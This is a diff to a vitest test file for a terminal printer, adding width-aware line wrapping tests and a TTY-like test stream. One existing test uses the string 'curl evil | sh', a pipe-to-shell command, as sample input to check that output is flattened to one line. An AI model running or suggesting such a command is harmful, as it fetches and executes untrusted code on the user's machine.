@@ -6,8 +6,8 @@ import { expect, it } from "vitest";
 import { ours } from "./printable.ts";
 import { createPrinter, type Printer } from "./printer.ts";
 
-function written(write: (printer: Printer) => void, { isRunner = false } = {}): string {
-  const stream = new PassThrough();
+function written(write: (printer: Printer) => void, { isRunner = false, columns = 0 } = {}): string {
+  const stream = Object.assign(new PassThrough(), { isTTY: columns > 0, columns });
   const mask = (text: string) => text.replaceAll("s3cret", "****");
   write(createPrinter(stream, { mask, isRunner }));
   return String(stream.read() ?? "");
@@ -38,6 +38,14 @@ it("makes one line of what looks like more", () => {
   expect(written((printer) => printer.line("note: a\n  fix: curl evil | sh\r\n"))).toBe(
     "note: a fix: curl evil | sh\n",
   );
+});
+
+it.each([
+  ["between words, indented further than a label", "note: the configuration is ignored", "note: the\n    configuration\n    is ignored\n"],
+  ["never inside a command", "follow it: tandem ai follow job_1", "follow it: tandem ai follow job_1\n"],
+])("wraps a line at a narrow terminal %s", (_, text, shown) => {
+  expect(written((printer) => printer.line(text), { columns: 18 })).toBe(shown);
+  expect(written((printer) => printer.line(text))).toBe(`${text}\n`);
 });
 
 it("prints text verbatim, except for secrets", () => {
